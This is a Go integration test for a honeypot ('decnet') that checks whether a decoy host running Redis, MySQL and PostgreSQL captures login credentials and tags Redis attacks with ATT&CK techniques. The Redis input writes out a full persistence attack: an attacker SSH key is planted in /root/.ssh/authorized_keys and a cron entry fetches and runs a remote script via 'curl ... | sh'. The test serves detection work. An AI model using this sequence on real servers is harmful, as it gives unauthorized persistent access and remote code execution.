package app

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/testenv"
)

// TestDatabaseDeckyCapturesCredentialsAndTagsRedisPersistence drives a real
// decnet with a decky running redis, mysql and postgres: the real clients
// (redis-cli, mariadb, psql) log in and the redis-cli runs the classic
// dump-file persistence sequence. Each login must become a credentials row
// of the right secret kind, and the Redis commands must be tagged with
// ATT&CK T1098.004 (SSH authorized keys) and T1053.003 (cron) by the
// shipped rules.
func TestDatabaseDeckyCapturesCredentialsAndTagsRedisPersistence(t *testing.T) {
	redisCLI := testenv.Binary(t, "redis-cli")
	mariadb := testenv.Binary(t, "mariadb")
	psql := testenv.Binary(t, "psql")
	a, _ := startApp(t, testConfig(t, nil))
	ini := "[general]\nnet = 127.96.0.0/24\n\n[db-01]\nservices = redis, mysql, postgres\nmutate_interval = 0\n\n" +
		"[db-01.mysql]\nversion = 8.0.36\n\n[db-01.postgres]\nauth_method = md5\n"
	if ids := deployINI(t, a, ini); len(ids) != 1 {
		t.Fatalf("deploy started lifecycles %v, want one", ids)
	}
	addr := waitServing(t, a, "db-01", "redis", "mysql", "postgres")

	// Redis: AUTH on an open server, then the persistence sequence.
	host, port, _ := net.SplitHostPort(addr["redis"])
	cmd := exec.Command(redisCLI, "-h", host, "-p", port)
	cmd.Stdin = strings.NewReader("AUTH hunter2\nCONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\n" +
		"SET k \"\\n\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx attacker@kali\\n\\n\"\nSAVE\n" +
		"CONFIG SET dir /var/spool/cron/crontabs\nSET c \"\\n* * * * * curl -s http://203.0.113.9/x|sh\\n\"\nSAVE\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("redis-cli: %v\n%s", err, out)
	}
	// MySQL: a denied login.
	host, port, _ = net.SplitHostPort(addr["mysql"])
	out, _ := exec.Command(mariadb, "--no-defaults", "--skip-ssl", "-h", host, "-P", port, "-u", "root", "-pToor2024", "-e", "select 1").CombinedOutput()
	if !strings.Contains(string(out), "ERROR 1045 (28000)") {
		t.Fatalf("mariadb: %s", out)
	}
	// PostgreSQL: a denied md5 login.
	host, port, _ = net.SplitHostPort(addr["postgres"])
	pg := exec.Command(psql, fmt.Sprintf("host=%s port=%s user=postgres dbname=postgres sslmode=disable connect_timeout=5", host, port), "-w", "-c", "select 1")
	pg.Env = append(os.Environ(), "PGPASSWORD=postgres")
	out, _ = pg.CombinedOutput()
	if !strings.Contains(string(out), `password authentication failed for user "postgres"`) {
		t.Fatalf("psql: %s", out)
	}

	ctx := context.Background()
	s := a.Store()
	want := map[string]string{"redis": "plaintext", "mysql": "caching_sha2_password", "postgres": "postgres_md5_challenge"}
	checkFor(t, 20*time.Second, func() error {
		creds, _, err := s.ListCredentials(ctx, store.CredentialQuery{Limit: 100})
		if err != nil {
			return err
		}
		got := map[string]string{}
		for _, c := range creds {
			if c.DeckyName == "db-01" {
				got[c.Service] = c.SecretKind
				if c.Service == "redis" && c.SecretPrintable != "hunter2" {
					return fmt.Errorf("redis credential %+v", c)
				}
			}
		}
		for svc, kind := range want {
			if got[svc] != kind {
				return fmt.Errorf("credentials by service %v, want %v", got, want)
			}
		}
		return nil
	})

	attacker := waitAttackerSettled(t, s, "127.0.0.1")
	checkFor(t, 30*time.Second, func() error {
		rollup, err := s.ListTechniquesByAttacker(ctx, attacker.UUID)
		if err != nil {
			return err
		}
		var subs []string
		for _, r := range rollup {
			subs = append(subs, r.SubTechniqueID)
		}
		for _, sub := range []string{"T1098.004", "T1053.003"} {
			if !slices.Contains(subs, sub) {
				return fmt.Errorf("sub-technique %s missing from %v", sub, subs)
			}
		}
		return nil
	})
	logs, err := s.ListLogs(ctx, store.LogQuery{Decky: "db-01", Limit: 500})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, l := range logs {
		if l.EventType == "redis_persistence" {
			n++
		}
	}
	if n != 2 {
		t.Errorf("%d redis_persistence rows, want 2", n)
	}
}
